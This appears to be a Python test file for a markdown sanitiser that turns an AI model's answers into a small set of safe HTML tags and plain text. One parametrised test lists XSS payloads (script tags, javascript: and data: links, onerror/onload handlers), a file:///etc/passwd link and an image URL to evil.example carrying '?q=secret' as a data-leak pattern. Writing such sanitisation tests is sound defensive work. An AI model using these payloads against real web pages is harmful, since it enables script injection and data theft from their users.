"""Whatever the model writes, a few harmless tags and a readable text come of it."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handlers.markdown import both

ALLOWED = {"p", "ul", "ol", "li", "strong", "em", "s", "code", "pre", "blockquote", "table"}
ALLOWED |= {"thead", "tbody", "tr", "th", "td", "br", "hr", "a"}
LETTER = """\
## Vos droits

Vous avez **cinq semaines** ([L3141-3](https://www.legifrance.gouv.fr/x?a=1&b=2)).

- un
- deux
  1. premier
  2. second

> cité
> encore

```
total = 25
```

| Année | Jours |
|-------|------:|
| 2026  | 25    |
"""


def to_html(markdown: str) -> str:
    return both(markdown)[0]


def to_text(markdown: str) -> str:
    return both(markdown)[1]


def test_an_everyday_answer_becomes_allowed_tags() -> None:
    html = to_html(LETTER)
    assert "<p><strong>Vos droits</strong></p>" in html
    assert (
        '<a href="https://www.legifrance.gouv.fr/x?a=1&amp;b=2" rel="noopener">L3141-3</a>' in html
    )
    assert "<ol>\n<li>premier</li>" in html
    assert "<code>total = 25\n</code>" in html
    assert re.search(r"<td style=[^>]*>25</td>", html)


def test_an_everyday_answer_reads_well_as_plain_text() -> None:
    assert (
        to_text(LETTER)
        == """\
Vos droits

Vous avez cinq semaines (L3141-3 (https://www.legifrance.gouv.fr/x?a=1&b=2)).

- un
- deux
  1. premier
  2. second

> cité
> encore

    total = 25

Année | Jours
2026 | 25"""
    )


def test_quotations_and_paragraphs_inside_lists_keep_their_margins() -> None:
    text = to_text("1. un\n\n   suite\n2. > cité\n   > deux\n3.\n\nfin\n\n***\n\n> - a\n>\n> b")
    assert text == (
        "1. un\n\n   suite\n\n2. > cité\n   > deux\n\n3.\n\nfin\n\n---\n\n> - a\n>\n> b"
    )


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        '<img src="https://evil.example/x.png">',
        "![stolen words](https://evil.example/?q=secret)",
        "![x][1]\n\n[1]: https://evil.example/x.png",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/)",
        "[x](ftp://evil.example/)",
        '[x](https://a.example "onmouseover=alert(1)")',
        '<a href="https://a.example" style="position:fixed" onclick="x()">x</a>',
        "<style>p{display:none}</style>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "`<script>`",
        '```"><script>\n<img src=x onerror=alert(1)>\n```',
        "<!-- --><svg onload=alert(1)>",
        "[a]: javascript:alert(1)\n\n[a]",
    ],
)
def test_nothing_hostile_survives_as_markup(hostile: str) -> None:
    html = to_html(hostile)
    assert not re.search(r"<\s*(script|img|style|svg|iframe|meta|link|base|form)", html, re.I)
    for tag in re.findall(r"<[a-z][^>]*>", html):
        attributes = set(re.findall(r"\s([a-z-]+)=", re.sub(r'="[^"]*"', "=", tag)))
        assert attributes <= {"href", "rel", "style", "start"}
        assert "position" not in tag
    for href in re.findall(r'href="([^"]*)"', html):
        assert href.startswith(("https://", "http://", "mailto:"))


def test_tags_of_the_model_s_own_are_shown_not_obeyed() -> None:
    assert to_html("a <b>x</b>") == "<p>a &lt;b&gt;x&lt;/b&gt;</p>\n"
    assert to_text("a <b>x</b>") == "a <b>x</b>"


def test_a_picture_leaves_the_words_that_describe_it() -> None:
    html, text = both("Voyez ![le plan](https://evil.example/x.png).")
    assert html == "<p>Voyez le plan.</p>\n"
    assert text == "Voyez le plan."


def test_a_bare_address_is_not_written_twice() -> None:
    assert to_text("<https://a.example/> <a@b.example>") == "https://a.example/ a@b.example"


def test_a_link_to_nowhere_leaves_its_text() -> None:
    assert to_html("[ici](/x)") == '<p><a rel="noopener">ici</a></p>\n'
    assert to_text("[ici](/x)") == "ici"


def test_line_breaks_of_the_model_are_kept() -> None:
    assert to_html("Bonjour,\nmerci") == "<p>Bonjour,<br>\nmerci</p>\n"
    assert to_text("Bonjour,\nmerci") == "Bonjour,\nmerci"


@pytest.mark.parametrize("sign", ["[", "![", "|a|\n|-|\n", "*a", "_a", "~~a", "a\n", "[(", '"['])
def test_what_would_keep_the_parser_busy_is_shown_as_it_stands(sign: str) -> None:
    text = "a < b\n" + sign * (60_000 // len(sign))
    html, plain = both(text)
    assert html.startswith("<p>a &lt; b<br>\n")
    assert plain == text.strip()


@pytest.mark.parametrize("sign", ["<", "&", "&#", "`", "\\", "!", "> ", "- ", "#", "a", "]("])
def test_no_answer_of_full_length_takes_seconds(sign: str) -> None:
    text = "[" * 10 + sign * (65_000 // len(sign))
    started = time.process_time()
    both(text)
    # A quadratic reader needs minutes for it; a slow machine does not.
    assert time.process_time() - started < 10


_bits = st.lists(
    st.sampled_from(
        [
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "a",
            "&",
            "*",
            "_",
            "`",
            "|",
            "-",
            "\n",
            "\n\n",
            "> ",
            "- ",
            "1. ",
            "    ",
            "https://x/",
            "javascript:",
            '"',
            "~~",
            "#",
            "<b ",
            "&lt;",
            "\\",
            "é",
        ]
    ),
    max_size=40,
).map("".join)


@given(_bits)
def test_any_text_gives_balanced_allowed_tags(markdown: str) -> None:
    html, text = both(markdown)
    open_tags: list[str] = []
    for closing, tag in re.findall(r"<(/?)([a-z0-9]+)[^>]*>", html):
        assert tag in ALLOWED
        if closing:
            assert open_tags.pop() == tag
        elif tag not in ("br", "hr"):
            open_tags.append(tag)
    assert not open_tags
    assert all(line == line.rstrip() for line in text.split("\n"))
